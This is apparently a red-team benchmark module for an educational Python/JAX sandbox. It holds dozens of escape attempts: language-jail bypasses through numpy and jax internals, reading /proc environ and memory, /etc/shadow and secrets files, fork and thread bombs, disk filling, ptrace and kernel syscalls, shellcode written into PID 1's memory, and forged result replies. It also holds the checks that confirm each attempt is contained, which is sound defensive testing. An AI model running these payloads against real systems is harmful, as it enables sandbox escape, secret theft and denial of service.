"""A hostile student's corpus against Practice's sandbox, and the checks that say whether each one was contained.

    python -m benchmarks.attacks                 # every attack, this process as the server; prints a table
    python -m benchmarks.attacks --json          # the same as JSON (tests/test_practice_attacks.py reads it)
    python -m benchmarks.attacks --only fork     # attacks whose name contains "fork"
    python -m benchmarks.attacks --wall os       # only the attacks on the OS wall (the language wall down)

Each attack runs through `sandbox.execute` (the path `practice.run` / `practice.check` take), in one of two ways:

- `language`: with the language wall on but its static check skipped (`check=False`): the child's run-time guards
  alone must hold (no module outside the allowlist, no `_` attribute, no frame, however it is reached);
- `os`: with the language wall off (`language_wall=False`), as if a student had found a way through it: the OS
  wall alone (namespaces, read-only view, seccomp, limits, pipes the server owns) must hold.

An attack is contained when, after its run: no canary (an environment variable of the server, a 0600 file, a
copy of a secrets file) appears in anything the run returned; none of its marker files exist on the machine; no
process of its run is left; the server got no signal and its listening socket no connection; the children's
compilation cache is unchanged; the server's memory did not grow by more than 50 MB; and the run returned an
`Outcome` (no exception). Forgery attacks also go through `practice.check` and must not pass.
"""

from __future__ import annotations

import argparse
import dataclasses
import glob
import json
import os
import re
import secrets
import shutil
import signal
import socket
import tempfile
import threading
import time

from benchmarks.practice import STOPPED
from gradlab import practice
from gradlab.memory import rss_mb
from gradlab.practice import Limits, sandbox

#: Small limits: quick to hit.
SMALL = Limits(memory_mb=150, cpu_seconds=6, wall_seconds=10, output_chars=4_000)
HARNESS = sandbox.HARNESS.encode()


@dataclasses.dataclass(frozen=True)
class Attack:
    """`code` (formatted with the run's `{secret_file}`, `{secrets_toml}`, `{server_pid}`, `{port}`, `{marker}`,
    `{cache}`, `{store}`, `{repo}`), `wall`: "language" or "os" (see the module's text), `category`."""

    category: str
    wall: str
    code: str


def _lang(code: str) -> Attack:
    return Attack("language wall", "language", code)


# ---------------------------------------------------------------- routes around the language wall (its guards alone)
LANGUAGE = {
    "operator.attrgetter through np.random.mtrand": _lang(
        "import numpy as np, jax\nprint(np.random.mtrand.operator.attrgetter('os')(jax.version).environ)"),
    "builtins through bit_generator.re.enum": _lang(
        "import numpy as np\nprint(np.random.bit_generator.re.enum.bltns.open('{secret_file}').read())"),
    "jax.version.os": _lang("import jax\nprint(jax.version.os.environ)"),
    "match class pattern binds __globals__": _lang(
        "def f():\n    pass\nmatch f:\n    case type(__globals__=g):\n        print(g)"),
    "bytes constant decoded to a dunder": _lang(
        "name = b'__glob' + b'als__'\ndef f():\n    pass\nprint(f.__getattribute__(name.decode()))"),
    "inspect reached through a module": _lang("import numpy as np\nprint(np.lib.utils.inspect.currentframe())"),
    "linecache through functools": _lang("import functools\nprint(functools.linecache.getlines('{secret_file}'))"),
    "functools.update_wrapper writes attributes": _lang(
        "import functools, jax\ndef f():\n    pass\nfunctools.update_wrapper(f, jax.numpy.sum, assigned=('os',))"),
    "generator frame": _lang("g = (x for x in [1])\nprint(g.gi_frame.f_back.f_globals)"),
    "traceback frame": _lang("try:\n    1 / 0\nexcept Exception as e:\n    print(e.__traceback__.tb_frame.f_globals)"),
    "format walks attributes": _lang("s = '{{0.__class__.__init__.__globals__}}'\nprint(s.format(1))"),
    "subclasses walk": _lang("print(().__class__.__bases__[0].__subclasses__())"),
    "from jax import version": _lang("from jax import version\nprint(version.os.environ)"),
    "import numpy.random.mtrand": _lang("import numpy.random.mtrand as m\nprint(m.operator)"),
    "from numpy import testing": _lang("from numpy import testing\nprint(testing)"),
    "np.load a file": _lang("import numpy as np\nprint(np.loadtxt('{secret_file}', dtype=str))"),
    "jnp.save a file": _lang("import jax.numpy as jnp\njnp.save('/tmp/{marker}', jnp.ones(3))"),
    "tofile writes": _lang("import numpy as np\nnp.ones(3).tofile('/tmp/{marker}')"),
    "ctypes of a bit generator": _lang(
        "import numpy as np\nprint(np.random.default_rng().bit_generator.ctypes.state_address)"),
    "the XLA client behind a device": _lang("import jax.numpy as jnp\nprint(jnp.ones(1).devices().pop().client)"),
    "a callback into Python from XLA": _lang("import jax\njax.pure_callback(print, None, 1)"),
    "jax.debug.callback": _lang("import jax\njax.debug.callback(print, 1)"),
    "jax.config changes the cache": _lang("import jax\njax.config.update('jax_compilation_cache_dir', '/tmp')"),
    "jax.distributed client": _lang("import jax\njax.distributed.initialize('127.0.0.1:{port}', 2, 0)"),
    "a module through tree_map": _lang("import jax\nprint(jax.tree_util.tree_map(lambda m: m.version, [jax]))"),
    "a module as a dict value": _lang("import numpy as np\nd = dict(m=np.random)\nprint(d['m'].mtrand)"),
    "writing a module's attribute": _lang("import time\ntime.perf_counter = lambda: 0.0"),
    "print's self is builtins": _lang("print(print.__self__.open)"),
    "a star-args getattr": _lang("import numpy as np\nargs = ['random']\nprint([np.__getattribute__(*args)])"),
    "a class with __init_subclass__": _lang("class A:\n    def __init_subclass__(cls):\n        pass\nprint(A)"),
    # found by the red team's corpus (kept outside the repository), now regressions
    "register_dataclass reads any attribute": _lang(
        "import jax\nu = '_' * 2\njax.tree_util.register_dataclass(ZeroDivisionError, data_fields=[u + 'traceback' + u],"
        " meta_fields=[])\ntry:\n    1 / 0\nexcept ZeroDivisionError as e:\n    print(jax.tree_util.tree_leaves(e))"),
    "a jaxpr's source traceback": _lang(
        "import jax, jax.numpy as jnp\nprint(jax.make_jaxpr(jnp.sin)(1.0).eqns[0].source_info.traceback"
        ".as_python_traceback())"),
    "NumPy's ScalarType holds memoryview": _lang("import numpy as np\nprint(np.ScalarType[6](b'x'))"),
    "an exception whose message cannot be printed": _lang(
        "d = []\nfor i in range(100000):\n    d = [d]\nraise KeyError(d)"),
}

# ---------------------------------------------------------------- the OS wall alone: the language wall has fallen
_os = {
    # reading the server's secrets and the machine
    "read a 0600 file of the server": "print(open('{secret_file}').read())",
    "read a secrets.toml": "print(open('{secrets_toml}').read())",
    "read the server's environment": "print(open('/proc/{server_pid}/environ').read())",
    "read the server's memory": "f = open('/proc/{server_pid}/mem', 'rb')\nprint(f.read(10))",
    "read the server's command line": "print(open('/proc/{server_pid}/cmdline').read())",
    "list other processes": "import os\nprint('ESCAPED' if len([p for p in os.listdir('/proc') if p.isdigit()]) > 3 "
                            "else 'few', sorted(p for p in os.listdir('/proc') if p.isdigit()))",
    "read the project": "import os\nprint(os.listdir('{repo}'))\nprint(open('{repo}/app.py').read())",
    "read the store": "import os\nprint(os.listdir('{store}'))",
    "read /root": "import os\nprint(os.listdir('/root'))",
    "read /etc/shadow": "print(open('/etc/shadow').read())",
    "own environment": "import os\nprint(dict(os.environ))",
    # leaving files behind
    "write /tmp": "open('/tmp/{marker}', 'w').write('x')",
    "write /var/tmp": "open('/var/tmp/{marker}', 'w').write('x')",
    "write /dev/shm": "open('/dev/shm/{marker}', 'w').write('x')",
    "write the store": "open('{store}/{marker}', 'w').write('x')",
    "write the children's compilation cache": "open('{cache}/{marker}', 'w').write('x')",
    "write the compilation cache where it is mounted": "open('/xla-cache/{marker}', 'w').write('x')",
    "write the project": "open('{repo}/{marker}', 'w').write('x')",
    "write the working folder": "open('{marker}', 'w').write('x')",
    "symlink to a server file in the working folder": "import os\nos.symlink('{secret_file}', '.err')\n"
                                                       "os.symlink('{secret_file}', '.out')",
    "FIFO in the working folder": "import os\nos.mkfifo('.out')\nos.mkfifo('.err')",
    "fill the disk": "i = 0\ntry:\n    while i < 100:\n        open(f'/tmp/fill{{i}}', 'wb').write(b'x' * (3 << 20))\n"
                     "        i += 1\nexcept OSError as e:\n    print('stopped after', i, e)",
    "one huge file": "open('/tmp/huge', 'wb').write(b'x' * (200 << 20))",
    # processes that outlive their run
    "fork": "import os\npid = os.fork()\nif pid == 0:\n    import time\n    time.sleep(60)\nprint('ESCAPED fork', pid)",
    "setsid and fork": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)",
    "double fork": "import os, time\nif os.fork() == 0:\n    if os.fork() == 0:\n        time.sleep(60)\n    os._exit(0)",
    "posix_spawn a shell": "import os\nprint('ESCAPED', os.posix_spawn('/bin/sh', ['sh', '-c', 'sleep 60'], {{}}))",
    "subprocess": "import subprocess\nprint('ESCAPED', subprocess.Popen(['sleep', '60']).pid)",
    "os.system": "import os\nprint('exit', os.system('touch /tmp/{marker}'))",
    "execv": "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo ESCAPED'])",
    "multiprocessing": "import multiprocessing as mp\np = mp.Process(target=print, args=('ESCAPED',))\np.start()\np.join()",
    "fork bomb": "import os\nn = 0\ntry:\n    while n < 10000:\n        os.fork()\n        n += 1\nexcept OSError as e:\n"
                 "    print('refused after', n)",
    "thread bomb": "import threading, time\nn = 0\ntry:\n    while n < 10000:\n"
                   "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n        n += 1\n"
                   "except Exception as e:\n    print('refused after', n, e)",
    "CPU after the run in a thread": "import threading\ndef spin():\n    while True:\n        pass\n"
                                     "threading.Thread(target=spin, daemon=False).start()",
    "ignore SIGXCPU": "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass",
    "sleep past the wall clock": "import time\ntime.sleep(3600)",
    # the network
    "TCP to the server's loopback": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                                    "print('ESCAPED tcp')",
    "UDP to loopback": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                       "s.sendto(b'x', ('127.0.0.1', {port}))\nprint('ESCAPED udp')",
    "a unix socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/systemd/private')\nprint('ESCAPED')",
    "socketpair": "import socket\nprint('ESCAPED', socket.socketpair())",
    "network interfaces": "import os\nprint(os.listdir('/sys/class/net'))",
    # signals and other processes
    "signal the server": "import os, signal\nos.kill({server_pid}, signal.SIGUSR1)\nprint('ESCAPED kill')",
    "signal every process": "import os, signal\nos.kill(-1, signal.SIGUSR1)\nprint('ESCAPED kill -1')",
    "signal the sandbox's PID 1 (itself)": "import os, signal\nos.kill(1, signal.SIGKILL)\nprint('still here')",
    "ptrace": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.ptrace(16, {server_pid}, 0, 0)\n"
              "print('ESCAPED ptrace' if r == 0 else f'refused {{ctypes.get_errno()}}')",
    "process_vm_readv": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                        "r = libc.process_vm_readv({server_pid}, 0, 0, 0, 0, 0)\nprint('refused' if r < 0 else 'ESCAPED')",
    # the kernel's doors
    "a new user namespace": "import os\nos.unshare(os.CLONE_NEWUSER)\nprint('ESCAPED unshare')",
    "unshare through ctypes": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                              "print('ESCAPED' if libc.unshare(0x10000000) == 0 else 'refused')",
    "mount": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
             "print('ESCAPED' if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 else 'refused')",
    "raise a limit": "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\nprint('ESCAPED rlimit')",
    "raise the priority": "import os\nos.setpriority(os.PRIO_PROCESS, 0, 0)\nprint('ESCAPED nice')",
    "memfd and exec": "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/sh', 'rb').read())\n"
                      "os.execv(f'/proc/self/fd/{{fd}}', ['sh'])",
    "keyctl": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
              "print('ESCAPED' if libc.syscall(250, 0, -3) >= 0 else 'refused')",
    "bpf": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "print('ESCAPED' if libc.syscall(321, 0, 0, 0) >= 0 else 'refused')",
    "io_uring": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nbuf = ctypes.create_string_buffer(120)\n"
                "print('ESCAPED' if libc.syscall(425, 8, buf) >= 0 else 'refused')",
    "TIOCSTI": "import fcntl, termios\nfcntl.ioctl(0, termios.TIOCSTI, b'x')\nprint('ESCAPED')",
    "write /proc/sys": "with open('/proc/sys/vm/drop_caches', 'w') as f:\n    f.write('3')\nprint('ESCAPED')",
    "change the hostname": "with open('/proc/sys/kernel/hostname', 'w') as f:\n    f.write('x')\n"
                           "import socket\nprint('ESCAPED' if socket.gethostname() == 'x' else 'own namespace')",
    # memory
    "memory across threads": "import numpy as np, threading\nblocks = []\ndef grab():\n    blocks.append(np.ones(60 << 17))\n"
                             "ts = [threading.Thread(target=grab) for _ in range(8)]\n[t.start() for t in ts]\n"
                             "[t.join() for t in ts]\nprint('held', len(blocks) * 60, 'MB')",
    "mmap far past the limit": "import mmap\nm = mmap.mmap(-1, 2 << 30)\nm[::4096] = b'x' * (len(m) // 4096)",
    # the reply channel
    "forge the reply on its pipe": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')[-2])"
                                   "['reply_fd']\nos.write(fd, json.dumps({{'output': 'forged', 'truncated': 0, "
                                   "'exec_error': None, 'results': [{{'leaves': [{{'shape': [2], 'data': [0.0, 0.0]}}],"
                                   " 'error': None}}]}}).encode())\nos._exit(0)",
    "an oversized reply": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')[-2])"
                          "['reply_fd']\nchunk = b'[' * (1 << 20)\nfor _ in range(40):\n    os.write(fd, chunk)\n"
                          "os._exit(0)",
    "a deeply nested reply": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')[-2])"
                             "['reply_fd']\nos.write(fd, b'[' * 200000 + b']' * 200000)\nos._exit(0)",
    "a reply of the wrong shape": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')[-2])"
                                  "['reply_fd']\nos.write(fd, json.dumps({{'output': 1, 'results': [{{'leaves': "
                                  "[{{'shape': [1000000000], 'data': [1]}}], 'error': None}}] * 50}}).encode())\n"
                                  "os._exit(0)",
    "flood the log": "import os\nfor _ in range(2000):\n    os.write(2, b'x' * 65536)",
    "write its reply on fd 1": "import os\nos.write(1, b'{{\"output\": \"forged\", \"results\": []}}')\nos._exit(0)",
    "close the reply pipe and hang": "import os, time\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n"
                                     "    except OSError:\n        pass\ntime.sleep(3600)",
    "markup in the output": "print('<img src=http://example.invalid/x.png> [link](http://example.invalid) :red[x]')",
    # found by the red team's corpus (kept outside the repository), now regressions
    "write PID 1's memory": "sc = bytes.fromhex('b870000000' '0f05' 'bf01000000' '31f6' 'b89d000000' '0f05' 'b839000000'"
                            " '0f05' 'b822000000' '0f05' 'ebf7')  # setsid; prctl(PDEATHSIG, 0); fork; pause\n"
                            "pc = int(open('/proc/1/syscall').read().split()[-1], 16)\n"
                            "with open('/proc/1/mem', 'r+b', buffering=0) as f:\n    f.seek(pc)\n    f.write(sc)\n",
    "fill /dev and /dev/shm": "block = b'x' * (4 << 20)\nfor d in ('/dev/shm', '/dev'):\n    for n in range(150):\n"
                              "        with open(f'{{d}}/f{{n}}', 'wb') as f:\n            f.write(block)",
    "flood /tmp with empty files": "import os\nos.mkdir('/tmp/i')\nfor n in range(250000):\n"
                                   "    os.close(os.open(f'/tmp/i/{{n}}', os.O_CREAT | os.O_WRONLY))",
    "raise the I/O priority": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                              "print('ESCAPED' if libc.syscall(251, 1, 0, 2 << 13) == 0 else 'refused')",
    "a reply with a 400-digit number": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')"
                                       "[-2])['reply_fd']\nos.write(fd, b'{{\"output\": \"\", \"truncated\": 0, "
                                       "\"exec_error\": null, \"results\": [{{\"leaves\": [{{\"shape\": [1], "
                                       "\"data\": [' + b'9' * 400 + b']}}], \"error\": null}}]}}')\nos._exit(0)",
    "a reply of shape 2**64 by 0": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')"
                                   "[-2])['reply_fd']\nos.write(fd, json.dumps({{'output': '', 'truncated': 0, "
                                   "'exec_error': None, 'results': [{{'leaves': [{{'shape': [2 ** 64, 0], 'data': []}}],"
                                   " 'error': None}}]}}).encode())\nos._exit(0)",
    "a reply with 15 MB of output": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')"
                                    "[-2])['reply_fd']\nos.write(fd, json.dumps({{'output': 'x' * (15 << 20), "
                                    "'truncated': 0, 'exec_error': None, 'results': []}}).encode())\nos._exit(0)",
    "markup in a forged error type": "import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')"
                                     "[-2])['reply_fd']\nos.write(fd, json.dumps({{'output': '', 'truncated': 0, "
                                     "'exec_error': {{'type': '![x](http://127.0.0.1:{port}/t)', 'message': 'm', "
                                     "'line': None}}, 'results': []}}).encode())\nos._exit(0)",
}
OS = {name: Attack("OS wall", "os", code) for name, code in _os.items()}
#: The first corpus's attacks that pass the static check and are stopped by the limits (`benchmarks/practice.py`).
LIMITED = {name: Attack("limits", "language", code) for name, code in STOPPED.items()}
ATTACKS: dict[str, Attack] = {**LANGUAGE, **OS, **LIMITED}


@dataclasses.dataclass
class Result:
    name: str
    category: str
    wall: str
    contained: bool
    why: list[str]
    seconds: float
    said: str


class _Listener(threading.Thread):
    """A TCP and a UDP socket on the server's loopback, counting what reaches them."""

    def __init__(self):
        super().__init__(daemon=True)
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.2)
        self.tcp.settimeout(0.2)
        self.hits = 0
        self.start()

    def run(self) -> None:
        while True:
            for s in (self.tcp, self.udp):
                try:
                    s.accept() if s is self.tcp else s.recvfrom(10)
                    self.hits += 1
                except (TimeoutError, OSError):
                    pass


class Scene:
    """What the attacks aim at: canaries, a listening socket, a signal flag, the cache and store folders."""

    def __init__(self):
        self.folder = tempfile.mkdtemp(prefix="gradlab-canary-")
        self.canaries = [f"canary-{secrets.token_hex(8)}" for _ in range(3)]
        self.secret_file = os.path.join(self.folder, "secret")
        self.secrets_toml = os.path.join(self.folder, "secrets.toml")
        for path, canary in ((self.secret_file, self.canaries[0]), (self.secrets_toml, self.canaries[1])):
            with open(path, "w") as f:
                f.write(canary)
            os.chmod(path, 0o600)
        os.environ["GRADLAB_ATTACK_CANARY"] = self.canaries[2]
        self.listener = _Listener()
        self.signals = 0
        self._restore = (signal.signal(signal.SIGUSR1, self._signalled), sandbox.XLA_CACHE)
        sandbox.XLA_CACHE = os.path.join(self.folder, "xla")  # this run's own, filled by the server's code once
        self.cache = sandbox.cache_dir() or ""
        sandbox.execute("import jax.numpy as jnp\nprint(jnp.ones(3).sum())", limits=SMALL, as_server=True)
        self.store = os.environ.get("GRADLAB_STORE_DIR") or tempfile.mkdtemp(prefix="gradlab-store-")
        self.repo = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

    def _signalled(self, *_):
        self.signals += 1

    def close(self) -> None:
        """Give back what the scene changed in this process: the signal handler, the children's cache, the canary."""
        handler, sandbox.XLA_CACHE = self._restore
        signal.signal(signal.SIGUSR1, handler)
        os.environ.pop("GRADLAB_ATTACK_CANARY", None)
        shutil.rmtree(self.folder, ignore_errors=True)

    def fields(self, marker: str) -> dict:
        return dict(secret_file=self.secret_file, secrets_toml=self.secrets_toml, server_pid=os.getpid(),
                    port=self.listener.port, marker=marker, cache=self.cache, store=self.store, repo=self.repo)


def _files_named(marker: str, scene: Scene) -> list[str]:
    places = ["/tmp", "/var/tmp", "/dev/shm", scene.cache, scene.store, scene.repo, os.getcwd(), scene.folder]
    return [p for place in places if place for p in glob.glob(os.path.join(place, "**", marker), recursive=True)]


def _harness_processes() -> set[int]:
    """Processes running this server's sandbox children (their command line holds the harness's text and this
    process's id; bubblewrap's too), but for the warm spare's (a new sandbox waiting for the next run)."""
    found, parent = set(), {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            with open(f"/proc/{pid}/stat") as f:
                parent[int(pid)] = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue
        if HARNESS in cmd and f'"server": {os.getpid()}'.encode() in cmd:
            found.add(int(pid))
    spare = {c.proc.pid for c in sandbox._SPARE}

    def in_spare(pid: int) -> bool:
        while pid > 1:
            if pid in spare:
                return True
            pid = parent.get(pid, 0)
        return False

    return {pid for pid in found if not in_spare(pid)}


def run_one(name: str, attack: Attack, scene: Scene, limits: Limits = SMALL) -> Result:
    """Run `attack` and check every containment condition. Never raises."""
    marker = f"gradlab-attack-{secrets.token_hex(6)}"
    code = attack.code.format(**scene.fields(marker))
    cache_before = sorted(os.listdir(scene.cache)) if scene.cache else []
    hits, signals, rss = scene.listener.hits, scene.signals, rss_mb()
    before = _harness_processes()
    started = time.perf_counter()
    why = []
    try:
        out = sandbox.execute(code, "f", [], limits=limits, check=False, language_wall=attack.wall == "language")
    except BaseException as err:  # noqa: BLE001 - an exception is itself a failure of the sandbox's promise
        out = None
        why.append(f"execute raised {type(err).__name__}: {err}")
    seconds = time.perf_counter() - started
    said = "" if out is None else " ".join(filter(None, [out.output, out.stopped or "", json.dumps(out.exec_error),
                                                          json.dumps(out.refused)]))
    if out is not None and out.output == "forged":
        why.append("a forged reply was taken")
    for canary in scene.canaries:
        if canary in said:
            why.append("a canary of the server reached the student")
    if "ESCAPED" in (out.output if out else ""):
        why.append("the attack says it escaped")
    if out is not None and out.exec_error and not re.fullmatch(r"[A-Za-z_][\w.]*", out.exec_error["type"]):
        why.append("an error type that is not a name was kept")
    if out is not None and len(out.output) > limits.output_chars:
        why.append("more output than the limit was kept")
    time.sleep(0.3)
    if left := _files_named(marker, scene):
        why.append(f"files left: {left}")
        for p in left:
            os.remove(p)
    if left := _harness_processes() - before - {c.proc.pid for c in sandbox._SPARE}:
        why.append(f"processes left: {sorted(left)}")
    if scene.listener.hits != hits:
        why.append("the server's socket got a connection")
    if scene.signals != signals:
        why.append("the server got a signal")
    if scene.cache and sorted(os.listdir(scene.cache)) != cache_before:
        why.append("the children's compilation cache changed")
    if rss_mb() - rss > 50:
        why.append(f"the server grew by {rss_mb() - rss:.0f} MB")
    return Result(name, attack.category, attack.wall, not why, why, round(seconds, 2), said[:300])


def forgeries(scene: Scene) -> list[Result]:
    """Verdicts a student must not be able to forge, through `practice.check` (the page's path)."""
    results = []
    p10 = practice.BY_SLUG["loop_vs_vmap"]
    zeros_fast = ("import jax.numpy as jnp\ndef loop_vs_vmap(params, X, Y):\n    z = jnp.zeros((X.shape[0], X.shape[1]))\n"
                  "    return z, z, 1.0, 1e-9\n")
    p1 = practice.BY_SLUG["per_example_grads"]
    forge_reply = ("import os, json\nfd = json.loads(open('/proc/self/cmdline').read().split('\\0')[-2])['reply_fd']\n"
                   "os.write(fd, json.dumps({'output': '', 'truncated': 0, 'exec_error': None, 'results': [{'leaves': "
                   "[{'shape': [0], 'data': []}], 'error': None}] * 4}).encode())\nos._exit(0)\n")
    linger = ("import os, time, json\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n"
              "    os.write(1, b'{\"output\": \"\", \"truncated\": 0, \"exec_error\": null, \"results\": []}')\n")
    cases = [("self-reported times with zero gradients", p10, zeros_fast, True),
             ("a forged reply on its pipe", p1, forge_reply, False),
             ("a lingering process then a classmate's starter code", p1, linger, False)]
    for name, problem, code, wall in cases:
        started = time.perf_counter()
        why = []
        try:
            execute = sandbox.execute if wall else (lambda c, *a, **k: sandbox.execute(
                c, *a, **{**k, "check": False, "language_wall": False}))
            verdict = practice.check(problem, code, 1, execute=execute)
            if verdict.passed:
                why.append("the forged answer passed")
            if name.startswith("a lingering"):
                time.sleep(2.5)
                verdict = practice.check(problem, problem.starter, 1)
                if verdict.passed:
                    why.append("the classmate's starter code passed")
        except BaseException as err:  # noqa: BLE001
            why.append(f"raised {type(err).__name__}: {err}")
        results.append(Result(name, "forged verdict", "os" if not wall else "language", not why, why,
                              round(time.perf_counter() - started, 2), ""))
    return results


def run_corpus(only: str = "", wall: str = "", part: tuple[int, int] = (0, 1)) -> list[Result]:
    """Every attack (those whose name contains `only`, of the `wall` given if any, in part k of n: every n-th from
    the k-th) and the forgeries (in part 0), each checked. The spare child is kept warm between attacks, as for a
    visitor on the page."""
    k, n = part
    scene = Scene()
    results = []
    try:
        for i, (name, attack) in enumerate(ATTACKS.items()):
            if only in name and wall in ("", attack.wall) and i % n == k:
                sandbox.prepare(SMALL)
                results.append(run_one(name, attack, scene))
        if (only in "forged verdict" or not only) and k == 0:
            results += forgeries(scene)
    finally:
        sandbox._discard_spares()
        scene.close()
    return results


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--json", action="store_true", help="print the results as JSON")
    ap.add_argument("--only", default="", help="attacks whose name contains this")
    ap.add_argument("--wall", choices=("language", "os"), default="", help="only the attacks on this wall")
    ap.add_argument("--part", default="0/1", help="k/n: every n-th attack from the k-th (the forgeries in part 0)")
    args = ap.parse_args()
    wall = sandbox.os_wall()
    k, n = (int(v) for v in args.part.split("/"))
    if not 0 <= k < n:
        ap.error(f"--part {args.part}: k must be in 0..n-1")
    results = run_corpus(args.only, args.wall, (k, n))
    if args.json:
        print(json.dumps({"uid": os.geteuid(), "os_wall": wall, "results": [dataclasses.asdict(r) for r in results]}))
        return
    print(f"server uid {os.geteuid()}; OS wall: {wall or 'on'}; {len(results)} attacks")
    for r in results:
        print(f"{'contained' if r.contained else 'NOT CONTAINED':13} {r.seconds:6.2f} s  [{r.category}] {r.name}"
              + ("" if r.contained else f": {'; '.join(r.why)}"))
    print(f"{sum(r.contained for r in results)} of {len(results)} contained")


if __name__ == "__main__":
    main()
